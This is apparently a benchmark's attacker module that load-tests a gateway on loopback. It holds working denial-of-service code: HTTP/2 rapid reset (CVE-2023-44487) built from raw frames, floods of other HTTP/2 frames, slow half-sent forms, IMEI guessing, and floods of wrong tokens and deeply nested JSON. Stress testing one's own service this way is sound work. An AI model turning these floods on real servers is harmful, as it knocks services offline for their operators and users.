"""One attacker, in a process of its own: `python -m benchmark.hostile.attacks NAME PORT FILE`.

It runs until it is killed. All it does is on loopback, and is counted in the Tally of FILE.
"""

from __future__ import annotations

import sys
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from itertools import chain, count, repeat
from pathlib import Path

from benchmark.hostile.floods import Attacker, Text, churn, client_hello, converse, flood, hold
from benchmark.hostile.tally import Tally

KNOWN = b"860000000000001"  # an IMEI that the gateway knows
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
WINDOW_UPDATE = b"\0\0\4\x08\0\0\0\0\0\0\0\0\1"
SETTINGS = b"\0\0\0\4\0\0\0\0\0"
PRIORITY = b"\0\0\5\2\0\0\0\0\1\0\0\0\0\x10"
PING = b"\0\0\x08\6\0\0\0\0\0" + bytes(8)
GET = b"\x82\x87\x84\x41\x01a"  # GET / of host a by https, in HPACK
POST = b"POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
HALF_FORM = POST + b"Content-Length: 1000\r\n\r\na=b"
RESETS = 200  # in a piece
PIECE = 8192  # bytes


@dataclass(frozen=True, slots=True)
class Attack:
    """What one attacker does, and at which door: "device", "http", "https" or "control"."""

    door: str
    words: str
    run: Attacker


def again(text: bytes) -> Text:
    """This without end, in pieces."""
    piece = text * max(1, PIECE // len(text))
    return lambda: repeat(piece)


def http2(frame: bytes) -> Text:
    """A connection of HTTP/2 that sends this frame without end."""
    return lambda: chain([PREFACE], again(frame)())


def resets() -> Iterator[bytes]:
    """A connection of HTTP/2 that begins requests and takes them back at once: CVE-2023-44487."""
    yield PREFACE
    for first in count(1, 2 * RESETS):
        streams = [number.to_bytes(4, "big") for number in range(first, first + 2 * RESETS, 2)]
        yield b"".join(
            b"\0\0\6\1\5" + stream + GET + b"\0\0\4\3\0" + stream + b"\0\0\0\x08"
            for stream in streams
        )


def _unknown() -> Iterable[bytes]:
    return (b"023000%015dHT" % number for number in count(1))


def _guesses() -> Iterable[bytes]:
    numbers = count(1)
    while True:
        yield b"".join(b"023000%015dHT" % next(numbers) for _ in range(500))


RESULTS = b"".join(b"023%s%sQD" % (status, KNOWN) for status in (b"200", b"201", b"202"))

ATTACKS: dict[str, Attack] = {
    "none": Attack("device", "nobody", hold(0, b"")),
    "guess": Attack("device", "IMEIs tried, 500 a write", converse(_guesses)),
    "unknown": Attack("device", "HT of an unknown IMEI, a connection each", churn(_unknown)),
    "garbage": Attack(
        "device", "garbage, a connection each", churn(lambda: repeat(b"hello world"))
    ),
    "echo": Attack(
        "device", "an echo, a connection each", churn(lambda: repeat(b"023200123456787654321HT"))
    ),
    "known": Attack(
        "device", "HT of one known IMEI and close",
        churn(lambda: repeat(b"023000" + KNOWN + b"HT")),
    ),
    "results": Attack(
        "device", "HT of one known IMEI, results that nobody asked for, close",
        churn(lambda: repeat(b"023000" + KNOWN + b"HT" + RESULTS)),
    ),
    "digits": Attack("device", "50 floods of digits", flood(50, again(b"1"))),
    "heartbeats": Attack("device", "50 floods of heartbeats", flood(50, again(b"AT"))),
    "frames": Attack(
        "device", "1,000 floods of HT frames", flood(1000, again(b"023000999999999999999HT"))
    ),
    "silent": Attack("device", "3,000 silent connections", hold(3000, b"1")),
    "window": Attack(
        "https", "300 of HTTP/2 WINDOW_UPDATE", flood(300, http2(WINDOW_UPDATE), tls=True)
    ),
    "window-many": Attack(
        "https", "the same from 20 addresses",
        flood(300, http2(WINDOW_UPDATE), tls=True, sources=20),
    ),
    "settings": Attack(
        "https", "24 of HTTP/2 SETTINGS", flood(24, http2(SETTINGS), tls=True)
    ),
    "priority": Attack(
        "https", "24 of HTTP/2 PRIORITY", flood(24, http2(PRIORITY), tls=True)
    ),
    "ping": Attack("https", "24 of HTTP/2 PING", flood(24, http2(PING), tls=True)),
    "reset": Attack("https", "24 of HTTP/2 rapid reset", flood(24, resets, tls=True)),
    "reset-many": Attack(
        "https", "300 of HTTP/2 rapid reset from 20 addresses",
        flood(300, resets, tls=True, sources=20),
    ),
    "hello": Attack(
        "https", "a ClientHello and close", churn(lambda: repeat(client_hello()))
    ),
    "plain-http2": Attack("http", "24 of HTTP/2 without TLS", flood(24, http2(SETTINGS))),
    "form": Attack(
        "http", "30 forms of `&` without end",
        flood(30, lambda: chain([POST + b"Content-Length: 400000000000\r\n\r\n"], again(b"&")())),
    ),
    "half": Attack("http", "1,030 half forms", hold(1030, HALF_FORM)),
    "half-many": Attack(
        "http", "the same from 20 addresses", hold(1030, HALF_FORM, sources=20)
    ),
    "requests": Attack(
        "http", "100 of requests", flood(100, again(b"GET /login HTTP/1.1\r\nHost: a\r\n\r\n"))
    ),
    "tokens": Attack(
        "control", "1,000 with wrong tokens",
        flood(1000, again(b'command{"type":"status","token":"dg_wrong"}')),
    ),
    "deep": Attack(
        "control", "100 with arrays 64 deep",
        flood(100, again(b'command{"type":"status","token":' + b"[" * 63 + b"]" * 63 + b"}")),
    ),
    "words": Attack("control", "1,030 that say `comm`", hold(1030, b"comm")),
}  # fmt: skip


if __name__ == "__main__":
    ATTACKS[sys.argv[1]].run(int(sys.argv[2]), Tally(Path(sys.argv[3])))
